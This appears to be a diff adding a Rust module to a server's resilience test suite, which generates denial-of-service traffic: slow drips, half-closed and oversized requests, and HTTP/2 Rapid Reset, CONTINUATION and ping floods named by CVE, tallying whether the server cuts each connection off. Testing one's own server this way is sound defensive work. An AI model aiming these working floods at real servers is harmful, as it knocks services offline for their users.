@@ -1,0 +1,238 @@
+//! What an attacker does on one connection, and who ends it.
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::time::{Duration, Instant};
+
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::select;
+use tokio::time::{sleep, timeout};
+
+use super::frames;
+
+/// A pause between two acts, so that the attacker does not merely take the processor away from the server.
+pub(super) const PAUSE: Duration = Duration::from_millis(5);
+/// Within this the server must be done with a caller whose harm is plain. Less than what any header is given.
+const DONE: Duration = Duration::from_secs(8);
+
+#[derive(Clone, Copy, Debug)]
+pub(super) enum Act {
+    /// Sends `begun`, then a byte of `drop` now and then.
+    Drip { begun: &'static str, drop: &'static str },
+    /// Connects and says nothing.
+    Silence,
+    /// Connects and is gone, as fast as it can.
+    Vanish,
+    /// Says nothing, half a header or half a body, and that no more will come; and stays.
+    HalfClose,
+    /// Sends a header of 64 KB.
+    Giant,
+    /// Sends garbage behind a good request on the same connection.
+    Garbage,
+    /// Opens HTTP/2 streams and resets them at once (CVE-2023-44487).
+    RapidReset,
+    /// Asks on a hundred HTTP/2 streams and takes none of the answers.
+    ShutWindow,
+    /// Never ends a header of HTTP/2 (CVE-2024-27316).
+    Continuation,
+    /// Pings and settings, which must all be answered (CVE-2019-9512, CVE-2019-9515).
+    PingFlood,
+}
+
+/// Who ended a connection.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum End {
+    /// The server: with a GOAWAY, or by hanging up.
+    Server,
+    /// The attack was over.
+    Ours,
+    /// All harm was done, and the server has let it be.
+    Nobody,
+}
+
+/// What became of an attack.
+#[derive(Debug, Default)]
+pub(super) struct Tally {
+    /// How often harm was tried, in the unit of the attack.
+    pub(super) tried: AtomicUsize,
+    /// Connections that the server ended.
+    pub(super) ended: AtomicUsize,
+    /// Connections that it let be to the end.
+    pub(super) borne: AtomicUsize,
+}
+
+impl Tally {
+    fn tried(&self, more: usize) {
+        self.tried.fetch_add(more, Ordering::Relaxed);
+    }
+}
+
+pub(super) async fn connect(from: IpAddr, to: SocketAddr) -> Option<TcpStream> {
+    let socket = TcpSocket::new_v4().ok()?;
+    // Elsewhere than on Linux loopback is one address only: then they come from where everybody comes from.
+    let _ = socket.bind(SocketAddr::new(from, 0));
+    timeout(Duration::from_secs(5), socket.connect(to)).await.ok()?.ok()
+}
+
+/// A request of the token endpoint with a long body, up to the body.
+pub(super) const LONG_BODY: &str = "POST /oauth/business/token HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\
+                                    Content-Type: application/x-www-form-urlencoded\r\n\r\n";
+
+impl Act {
+    /// One connection's worth of harm.
+    pub(super) async fn once(self, from: IpAddr, to: SocketAddr, stop: &AtomicBool, tally: &Tally) {
+        let Some(mut socket) = connect(from, to).await else { return };
+        // What cannot be sent was ended by the other side.
+        match self.on(&mut socket, stop, tally).await.unwrap_or(End::Server) {
+            End::Server => tally.ended.fetch_add(1, Ordering::Relaxed),
+            End::Nobody => tally.borne.fetch_add(1, Ordering::Relaxed),
+            End::Ours => 0,
+        };
+    }
+
+    async fn on(self, socket: &mut TcpStream, stop: &AtomicBool, tally: &Tally) -> std::io::Result<End> {
+        let going = || !stop.load(Ordering::Relaxed);
+        match self {
+            Act::Silence | Act::Vanish => {
+                tally.tried(1);
+                Ok(End::Ours)
+            }
+            Act::Drip { begun, drop } => {
+                socket.write_all(begun.as_bytes()).await?;
+                while going() {
+                    socket.write_all(drop.as_bytes()).await?;
+                    tally.tried(1);
+                    sleep(Duration::from_millis(100)).await;
+                }
+                Ok(End::Ours)
+            }
+            Act::HalfClose => {
+                let begun = ["", "GET / HTTP/1.1\r\nHost: a", LONG_BODY];
+                let turn = tally.tried.fetch_add(1, Ordering::Relaxed);
+                socket.write_all(begun[turn % begun.len()].as_bytes()).await?;
+                socket.shutdown().await?;
+                Ok(until_ended(socket, stop).await)
+            }
+            Act::Giant => {
+                let header = format!("GET / HTTP/1.1\r\nHost: a\r\nx: {}", "y".repeat(64 * 1024));
+                tally.tried(1);
+                socket.write_all(header.as_bytes()).await?;
+                Ok(until_ended(socket, stop).await)
+            }
+            Act::Garbage => {
+                tally.tried(1);
+                let garbage = "\u{0}\u{16}\u{3}\u{1}GET GET GET / HTTP/7\r\n: :\r\n\r\n".repeat(64);
+                let asked = format!("GET /login HTTP/1.1\r\nHost: a\r\n\r\n{garbage}");
+                socket.write_all(asked.as_bytes()).await?;
+                Ok(until_ended(socket, stop).await)
+            }
+            Act::RapidReset => {
+                socket.write_all(&frames::preface(false)).await?;
+                let reset = |stream| frames::frame(frames::RST_STREAM, 0, stream, &[0, 0, 0, 8]);
+                // A hundred at once, as the attack has it: what trickles in is taken and given back one by one.
+                let burst = |first: u32| {
+                    (0..100)
+                        .map(move |turn| first + 2 * turn)
+                        .flat_map(move |stream| [frames::ask(stream), reset(stream)].concat())
+                };
+                let bursts = (0..100_u32).map(|turn| (burst(1 + 200 * turn).collect(), 100));
+                flood(socket, bursts, stop, tally).await
+            }
+            Act::Continuation => {
+                socket.write_all(&[frames::preface(false), frames::ask_without_end(1)].concat()).await?;
+                // A literal header field, "x: y", a few hundred of them in each frame.
+                let fields = [0x00, 1, b'x', 1, b'y'].repeat(400);
+                let more = frames::frame(frames::CONTINUATION, 0, 1, &fields);
+                flood(socket, std::iter::repeat_n((more, 1), 200), stop, tally).await
+            }
+            Act::ShutWindow => {
+                socket.write_all(&frames::preface(true)).await?;
+                for turn in 0..100 {
+                    socket.write_all(&frames::ask(1 + 2 * turn)).await?;
+                    tally.tried(1);
+                }
+                // The headers come, the bodies wait.
+                while going() {
+                    let mut bytes = [0; 4096];
+                    let read = timeout(Duration::from_millis(100), socket.read(&mut bytes)).await;
+                    if matches!(read, Ok(Ok(0) | Err(_))) {
+                        return Ok(End::Server);
+                    }
+                }
+                Ok(End::Ours)
+            }
+            Act::PingFlood => {
+                socket.write_all(&frames::preface(false)).await?;
+                let pair = [frames::frame(frames::PING, 0, 0, &[7; 8]), frames::frame(frames::SETTINGS, 0, 0, &[])];
+                let (pings, mut at) = (pair.concat().repeat(10), 0);
+                while going() {
+                    // Nothing of what comes back is read. What did not fit goes on where it stopped.
+                    if let Ok(written) = timeout(Duration::from_millis(200), socket.write(&pings[at..])).await {
+                        at += written?;
+                    }
+                    if at == pings.len() {
+                        at = 0;
+                        tally.tried(20);
+                    }
+                    sleep(PAUSE).await;
+                }
+                Ok(End::Ours)
+            }
+        }
+    }
+}
+
+/// Sends piece after piece on a connection of HTTP/2 until the server has had enough.
+async fn flood(
+    socket: &mut TcpStream,
+    pieces: impl Iterator<Item = (Vec<u8>, usize)>,
+    stop: &AtomicBool,
+    tally: &Tally,
+) -> std::io::Result<End> {
+    let (mut from, mut to) = socket.split();
+    let sends = async {
+        for (piece, count) in pieces {
+            to.write_all(&piece).await?;
+            tally.tried(count);
+            sleep(PAUSE).await;
+            if stop.load(Ordering::Relaxed) {
+                return Ok(End::Ours);
+            }
+        }
+        Ok(End::Nobody)
+    };
+    select! {
+        biased;
+        () = goodbye(&mut from) => Ok(End::Server),
+        sent = sends => sent,
+    }
+}
+
+/// Reads frames until the server says GOAWAY or hangs up.
+async fn goodbye(socket: &mut (impl AsyncRead + Unpin)) {
+    loop {
+        let mut head = [0; 9];
+        if socket.read_exact(&mut head).await.is_err() || head[3] == frames::GOAWAY {
+            return;
+        }
+        let mut payload = vec![0; usize::from(head[1]) << 8 | usize::from(head[2])];
+        if socket.read_exact(&mut payload).await.is_err() {
+            return;
+        }
+    }
+}
+
+/// Reads until the server is done with us.
+async fn until_ended(socket: &mut TcpStream, stop: &AtomicBool) -> End {
+    let (since, mut bytes) = (Instant::now(), [0; 4096]);
+    loop {
+        match timeout(Duration::from_millis(50), socket.read(&mut bytes)).await {
+            Ok(Ok(1..)) => {}
+            Ok(Ok(0) | Err(_)) => return End::Server,
+            Err(_) if stop.load(Ordering::Relaxed) => return End::Ours,
+            Err(_) if since.elapsed() > DONE => return End::Nobody,
+            Err(_) => {}
+        }
+    }
+}
